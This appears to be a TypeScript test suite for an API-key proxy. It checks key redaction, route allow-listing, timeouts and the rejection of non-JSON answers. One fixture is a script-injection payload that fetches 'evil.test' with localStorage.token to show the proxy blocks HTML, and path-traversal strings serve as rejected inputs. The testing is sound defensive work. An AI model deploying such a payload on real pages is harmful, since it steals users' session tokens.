import { expect } from "chai";
import { createKeyProxy, testnet } from "../../../src/client/index.ts";
import { apiKey, stage } from "./support/keyProxy.ts";

const html = "<script>fetch('https://evil.test/?' + localStorage.token)</script>";

const contents = async (answer: Response): Promise<[number, string]> => [answer.status, await answer.text()];
const isJson = { "content-type": "application/json" };
const unanswered = [502, '{"message":"The service did not answer"}'];
const throwing = () => {
  throw new TypeError(`cannot connect with ${apiKey}`);
};

describe("createKeyProxy", () => {
  // @spec auth/server-only
  it("adds the key, and passes nothing on but the route, the query and the body", async () => {
    const { call, calls } = stage(() => Response.json({ ok: true }, { headers: { "set-cookie": "a=b" } }));
    const others = { authorization: "Bearer x", cookie: "session=1", "x-forwarded-for": "1.2.3.4" };
    const answer = await call("/quote/v2?referrer=a;b", {
      body: '{"amount":"1"}',
      headers: { ...others, "x-api-key": "mine" },
      method: "POST",
    });
    expect([...answer.headers.keys()]).to.deep.equal(["content-type", "x-content-type-options"]);
    expect(await contents(answer)).to.deep.equal([200, '{"ok":true}']);
    const headers = Object.fromEntries(new Headers(calls[0]?.init.headers));
    expect(headers).to.deep.equal({ ...isJson, accept: "application/json", "x-api-key": apiKey });
    expect(calls[0]?.url).to.equal("https://service.test/v/quote/v2?referrer=a%3Bb");
    expect(calls[0]?.init).to.include({ body: '{"amount":"1"}', method: "POST", redirect: "manual" });
  });

  // @spec auth/server-only
  it("cuts the key out of an answer's body and headers", async () => {
    const headers = { link: `<x?key=${apiKey}>` };
    const answer = await stage(() =>
      Response.json({ message: `key ${apiKey}` }, { headers, status: 401 }),
    ).call("/chains");
    expect(JSON.stringify([...answer.headers])).to.not.include("3f1c9d");
    expect(await contents(answer)).to.deep.equal([401, '{"message":"key …"}']);
  });

  it("answers 404 to routes that are not listed, and asks the service nothing", async () => {
    const { calls, statusOf } = stage();
    for (const path of [
      ...["/requests/v3", "/requests/v2", "/execute", "/fast-fill", "/admin", "/", "//evil.test/chains"],
      ...["/requests/..%2fv3/signature", "/requests/%2e%2e/signature", "/requests/a/b/signature"],
      ...["/chains/", "/CHAINS", "/chainsx", "/intents/status/v3/../../../requests/v3"],
    ]) {
      expect(await statusOf(path), path).to.equal(404);
    }
    for (const method of ["POST", "PUT", "DELETE", "OPTIONS", "HEAD"]) {
      expect(await statusOf("/chains", { method }), method).to.equal(404);
    }
    expect(calls).to.deep.equal([]);
  });

  it("has its own routes under its own prefix", async () => {
    const { statusOf } = stage(undefined, { prefix: "/api/relay", routes: ["GET /requests/v3"] });
    expect(await statusOf("/api/relay/requests/v3?limit=1")).to.equal(200);
    for (const path of ["/requests/v3", "/api/relayx/requests/v3", "/api/relay/chains"]) {
      expect(await statusOf(path), path).to.equal(404);
    }
  });

  it("answers 413 to a body beyond its limit", async () => {
    const { statusOf } = stage(undefined, { maxBodyBytes: 10 });
    expect(await statusOf("/price", { body: '{"ttl":100}', method: "POST" })).to.equal(413);
    expect(await statusOf("/price", { body: '{"ttl":10}', method: "POST" })).to.equal(200);
  });

  it("answers 504 when the service is slower than the timeout", async () => {
    const slow = (_url: string, { signal }: RequestInit) =>
      new Promise<Response>((_, reject) => {
        signal?.addEventListener("abort", () => reject(signal.reason));
      });
    expect(await stage(slow, { timeout: 10 }).statusOf("/chains")).to.equal(504);
  });

  it("answers 502 to a redirect of the service", async () => {
    const moved = () => new Response(null, { headers: { location: "http://evil.test" }, status: 302 });
    expect(await stage(moved).statusOf("/chains")).to.equal(502);
  });

  it("answers 502 without the reason when the service cannot be reached", async () => {
    expect(await contents(await stage(throwing).call("/chains"))).to.deep.equal(unanswered);
  });

  describe("given a check", () => {
    const post = (body?: string) => ({ method: "POST", ...(body !== undefined && { body }) });

    it("forwards what passes, after the route and the parameters, with the parsed body, the path and the query", async () => {
      const seen: unknown[] = [];
      const { calls, statusOf } = stage(undefined, {
        check: ({ body, method, path, query }) => {
          seen.push([method, path, [...query], body]);
          return undefined;
        },
        prefix: "/api",
      });
      expect(await statusOf("/api/admin")).to.equal(404);
      expect(await statusOf("/api/chains?referrer=1")).to.equal(200);
      expect(await statusOf("/api/quote/v2", post(' { "amount": "1" } '))).to.equal(200);
      expect(await statusOf("/api/price", post())).to.equal(200);
      expect(seen).to.deep.equal([
        ["GET", "/chains", [["referrer", "1"]], undefined],
        ["POST", "/quote/v2", [], { amount: "1" }],
        ["POST", "/price", [], undefined],
      ]);
      expect(calls.map(({ init }) => init.body)).to.deep.equal([undefined, '{"amount":"1"}', undefined]);
    });

    it("answers 400 with its reason, and asks the service nothing", async () => {
      const { call, calls } = stage(undefined, {
        check: async ({ body }) => `no ${Object.keys(body ?? {})}`,
      });
      const answer = await call("/quote/v2", post('{"txs":[]}'));
      expect(await contents(answer)).to.deep.equal([400, '{"message":"no txs"}']);
      expect(calls).to.deep.equal([]);
    });

    it("forwards the JSON that it has seen: one value of a repeated key, and no later change", async () => {
      const { calls, statusOf } = stage(undefined, {
        check: ({ body }) => {
          const quote = body as { amount: string };
          const reason = quote.amount === "2" ? undefined : "another amount";
          quote.amount = "3";
          return reason;
        },
      });
      expect(await statusOf("/quote/v2", post('{"amount":"1","amount":"2"}'))).to.equal(200);
      expect(calls[0]?.init.body).to.equal('{"amount":"2"}');
    });

    it("answers 400 to a body that is not JSON and 500 to its own error, without the error's text", async () => {
      const { call, calls } = stage(undefined, { check: throwing });
      const texts = await Promise.all(
        ["{", "{}"].map(async (body) => contents(await call("/price", post(body)))),
      );
      expect(texts).to.deep.equal([
        [400, '{"message":"The body is not an object in JSON"}'],
        [500, '{"message":"The call cannot be checked"}'],
      ]);
      expect(calls).to.deep.equal([]);
    });
  });

  for (const [parameter, values] of Object.entries({
    apiKey: ["", "short", "with space inside", "line\nbreak-in-it"],
    baseUrl: ["ftp://x"],
    check: ["quote/v2", null],
    parameters: [
      { appFees: false },
      { appFees: [] },
      { appFees: { fixed: 1n } },
      { appFees: { fixed: undefined } },
      1,
    ],
    prefix: ["/api/"],
    routes: [["chains"], ["GET chains"], ["DELETE /chains"], ["GET /a b"], ["GET /a?b=1"]],
  })) {
    it(`rejects a ${parameter} that cannot work, without quoting the key`, () => {
      for (const value of values) {
        const make = () => createKeyProxy({ ...testnet, apiKey, [parameter]: value });
        expect(make)
          .to.throw(new RegExp(`\`${parameter}[.\\w]*\` is invalid`))
          .with.property("message")
          .not.includes(apiKey);
      }
    });
  }

  describe("given answers other than JSON", () => {
    const types = ["text/html", "text/html;charset=utf-8", "image/svg+xml", "application/xhtml+xml", "", "x"];

    for (const type of types) {
      it(`Q13: passes no body of type "${type}" to the app's origin`, async () => {
        for (const status of [200, 400, 429, 500, 503]) {
          for (const body of [html, "{}"]) {
            const answer = new Response(body, { headers: { "retry-after": "7" }, status });
            answer.headers.set("content-type", type);
            const passed = await stage(() => answer).call("/chains");
            expect(passed.status).to.equal(status === 200 ? 502 : status);
            expect(passed.headers.get("content-type")).to.equal("application/json");
            expect(passed.headers.get("x-content-type-options")).to.equal("nosniff");
            expect(passed.headers.get("retry-after")).to.equal("7");
            expect(await passed.json()).to.have.all.keys("message");
          }
        }
      });
    }

    for (const text of [html, "{} <b>"]) {
      it(`Q13: passes no page that calls itself JSON: ${text.slice(0, 8)}`, async () => {
        const passed = await stage(() => new Response(text, { headers: isJson })).call("/chains");
        const message = "The service answered with something other than JSON";
        expect(await contents(passed)).to.deep.equal([502, JSON.stringify({ message })]);
      });
    }

    it("Q13: marks its own answers as JSON and `nosniff`", async () => {
      for (const { headers } of [await stage().call("/nowhere"), await stage(throwing).call("/chains")]) {
        expect(headers.get("content-type")).to.equal("application/json");
        expect(headers.get("x-content-type-options")).to.equal("nosniff");
      }
    });
  });

  describe("given the key in another form", () => {
    const slashed = "sk/live+3f1c9d==";
    const escaped = (prefix: string) =>
      [...slashed].map((each) => prefix + each.charCodeAt(0).toString(16).padStart(2, "0")).join("");
    const forms: Readonly<Record<string, string>> = {
      plain: slashed,
      "escaped slashes": slashed.replaceAll("/", "\\/"),
      "Unicode escapes": escaped("\\u00").replace(/[0-9a-f]{2}(?=\\|$)/g, (code) => code.toUpperCase()),
      "per cent": encodeURIComponent(slashed),
    };
    for (const [name, form] of Object.entries(forms)) {
      it(`Q15: cuts it out as ${name}`, async () => {
        const headers = { ...isJson, link: `<x?key=${form}>` };
        const echo = () => new Response(`{"message":"a ${form} b"}`, { headers });
        const answer = await stage(echo, { apiKey: slashed }).call("/chains");
        const { message } = (await answer.json()) as { message: string };
        expect(message).to.include("…").and.match(/^a /);
        expect(message.replace(/^a | b$/g, "").length).to.be.lessThan(form.length / 2 + 4);
        if (!form.includes("\\")) expect(answer.headers.get("link")).to.not.include(form);
      });
    }
  });

  describe("given bodies that fail", () => {
    const stalled = () => new ReadableStream({ pull: () => new Promise<void>(() => undefined) });
    const broken = () =>
      new ReadableStream({ pull: (stream) => stream.error(new Error(`connection reset, ${apiKey}`)) });
    const post = (body: BodyInit) =>
      new Request("https://app.test/price", { body, duplex: "half", method: "POST" } as RequestInit);
    const lock = <Held extends { body: ReadableStream | null }>(held: Held): Held => {
      held.body?.getReader();
      return held;
    };

    it("Q16: answers 400 to a body that breaks, is locked or was read, and asks the service nothing", async () => {
      const { calls, handler } = stage();
      const used = post("{}");
      await used.text();
      for (const request of [post(broken()), lock(post("{}")), used]) {
        const answer = await contents(await handler(request));
        expect(answer).to.deep.equal([400, '{"message":"The body cannot be read"}']);
      }
      expect(calls).to.deep.equal([]);
    });

    it("Q16: cancels a call's body that takes longer than the call may", async () => {
      let cancelled = 0;
      const cancel = () => {
        cancelled++;
      };
      const watched = new ReadableStream({ cancel, pull: () => new Promise<void>(() => undefined) });
      const { calls, handler } = stage(undefined, { timeout: 20 });
      expect((await handler(post(watched))).status).to.equal(504);
      expect(calls).to.deep.equal([]);
      await new Promise((resolve) => setTimeout(resolve, 5));
      expect(cancelled).to.equal(1);
    });

    it("Q16: answers 504 to an answer's body that takes longer than the call may", async () => {
      const slow = stage(() => new Response(stalled(), { headers: isJson }), { timeout: 20 });
      expect(await slow.statusOf("/chains")).to.equal(504);
    });

    it("Q16: answers 502 to an answer's body that breaks or is locked", async () => {
      for (const answer of [
        new Response(broken(), { headers: isJson }),
        lock(Response.json({})),
        {} as Response,
      ]) {
        expect(await contents(await stage(() => answer).call("/chains"))).to.deep.equal(unanswered);
      }
    });
  });
});
